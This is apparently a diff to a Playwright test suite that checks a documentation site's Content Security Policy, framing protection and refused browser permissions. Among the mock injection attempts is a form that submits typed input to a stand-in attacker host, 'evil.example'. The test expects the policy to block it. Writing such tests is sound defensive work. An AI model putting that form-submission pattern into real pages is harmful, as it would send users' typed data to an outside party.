@@ -66,15 +66,6 @@ const attempts: Record<string, [attempt: () => unknown, directive: RegExp]> = {
     },
     /^base-uri/,
   ],
-  'a form that sends what is typed': [
-    () => {
-      const form = document.createElement('form');
-      form.action = 'https://evil.example/';
-      document.body.append(form);
-      form.submit();
-    },
-    /^form-action/,
-  ],
   'a picture that counts readers': [
     () => {
       const image = document.createElement('img');
@@ -103,61 +94,82 @@ const attempts: Record<string, [attempt: () => unknown, directive: RegExp]> = {
     },
     /^require-trusted-types-for/,
   ],
+  // Last, because it leaves the page.
+  'a form that sends what is typed': [
+    () => {
+      const form = document.createElement('form');
+      form.action = 'https://evil.example/';
+      document.body.append(form);
+      form.submit();
+    },
+    /^form-action/,
+  ],
 };
 
 test.use({ allowedProblems: { 'refused on purpose': /./ } });
 
-for (const [name, [attempt, directive]] of Object.entries(attempts)) {
-  test(`the policy refuses ${name}`, async ({ page, violations }) => {
-    await page.goto('/guide/start/quick-start');
-    const reached: string[] = [];
-    await page.route('https://evil.example/**', async route => {
-      reached.push(route.request().url());
-      await route.abort();
-    });
-    // Some of them also throw.
-    await page.evaluate(attempt).catch(() => undefined);
-    await expect
-      .poll(() => violations.map(text => text.split(':')[0]).join())
-      .toMatch(directive);
-    // A form that is refused leaves a page without a title.
-    expect(await page.title().catch(() => '')).not.toBe('taken over');
-    expect(reached).toEqual([]);
+test('the policy refuses what injected code would do', async ({
+  page,
+  violations,
+}) => {
+  const reached: string[] = [];
+  await page.route('https://evil.example/**', async route => {
+    reached.push(route.request().url());
+    await route.abort();
   });
-}
-
-test('no other site can show a page in a frame', async ({ page, baseURL }) => {
-  await page.route('https://other.example/', route =>
-    route.fulfill({
-      contentType: 'text/html',
-      body: `<iframe name="ours" src="${baseURL}/guide/start/quick-start"></iframe>`,
-    }),
-  );
-  await page.goto('https://other.example/');
-  await expect.poll(() => page.frame('ours')?.url()).toMatch(/^chrome-error:/);
+  await page.goto('/guide/start/quick-start');
+  for (const [name, [attempt, directive]] of Object.entries(attempts)) {
+    await test.step(`the policy refuses ${name}`, async () => {
+      violations.length = 0;
+      // Some of them also throw.
+      await page.evaluate(attempt).catch(() => undefined);
+      await expect
+        .poll(() => violations.map(text => text.split(':')[0]).join())
+        .toMatch(directive);
+      // A form that is refused leaves a page without a title.
+      expect(await page.title().catch(() => '')).not.toBe('taken over');
+      expect(reached).toEqual([]);
+    });
+  }
 });
 
-test('a page may ask for no device, place, file or identity of its reader', async ({
+test('pages are in no frame of others, and ask for nothing of the reader', async ({
   page,
+  baseURL,
 }) => {
-  await page.goto('/guide/start/quick-start');
-  const allowed = await page.evaluate(() => {
-    const { featurePolicy } = document as unknown as {
-      featurePolicy: { allowedFeatures(): string[] };
-    };
-    return featurePolicy.allowedFeatures();
+  await test.step('a page may ask for no device, place, file or identity of its reader', async () => {
+    await page.goto('/guide/start/quick-start');
+    const allowed = await page.evaluate(() => {
+      const { featurePolicy } = document as unknown as {
+        featurePolicy: { allowedFeatures(): string[] };
+      };
+      return featurePolicy.allowedFeatures();
+    });
+    // For the buttons that copy.
+    expect(allowed).toContain('clipboard-write');
+    const refused = [
+      ...['camera', 'microphone', 'display-capture', 'speaker-selection'],
+      ...['geolocation', 'accelerometer', 'gyroscope', 'magnetometer'],
+      ...['usb', 'serial', 'hid', 'midi', 'gamepad', 'keyboard-map'],
+      ...['clipboard-read', 'local-fonts', 'local-network-access'],
+      ...['payment', 'otp-credentials', 'identity-credentials-get'],
+      ...['publickey-credentials-create', 'publickey-credentials-get'],
+      ...['storage-access', 'browsing-topics', 'idle-detection'],
+      ...['window-management', 'fullscreen', 'screen-wake-lock', 'sync-xhr'],
+    ];
+    expect(refused.filter(name => allowed.includes(name))).toEqual([]);
   });
-  // For the buttons that copy.
-  expect(allowed).toContain('clipboard-write');
-  const refused = [
-    ...['camera', 'microphone', 'display-capture', 'speaker-selection'],
-    ...['geolocation', 'accelerometer', 'gyroscope', 'magnetometer'],
-    ...['usb', 'serial', 'hid', 'midi', 'gamepad', 'keyboard-map'],
-    ...['clipboard-read', 'local-fonts', 'local-network-access'],
-    ...['payment', 'otp-credentials', 'identity-credentials-get'],
-    ...['publickey-credentials-create', 'publickey-credentials-get'],
-    ...['storage-access', 'browsing-topics', 'idle-detection'],
-    ...['window-management', 'fullscreen', 'screen-wake-lock', 'sync-xhr'],
-  ];
-  expect(refused.filter(name => allowed.includes(name))).toEqual([]);
+
+  await test.step('no other site can show a page in a frame', async () => {
+    await page.route('https://other.example/', route =>
+      route.fulfill({
+        contentType: 'text/html',
+        body: `<iframe name="ours" src="${baseURL}/guide/start/quick-start"></iframe>`,
+      }),
+    );
+    await page.goto('https://other.example/');
+    await expect
+      .poll(() => page.frame('ours')?.url())
+      .toMatch(/^chrome-error:/);
+  });
 });
